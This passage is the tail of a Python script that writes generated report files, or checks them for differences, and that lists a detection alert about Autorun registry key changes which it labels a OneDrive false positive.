              "CurrentVersion Autorun Keys Modification (also hit by OneDrive's own Run key at 08:51: a false positive)"]:
        w("- " + t)
    w("")
    return "\n".join(L)


def main():
    check = "--check" in sys.argv[1:]
    files = build()
    bad = 0
    for name, lines in files.items():
        path = os.path.join(OUT, name)
        data = ("\n".join(lines) + "\n").encode("utf-8")
        if check:
            try:
                with open(path, "rb") as f:
                    same = f.read() == data
            except OSError:
                same = False
            if not same:
                print("differs: " + name)
                bad += 1
            continue
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
    if check:
        print("ok" if not bad else "%d file(s) differ" % bad)
        sys.exit(1 if bad else 0)


if __name__ == "__main__":
    main()
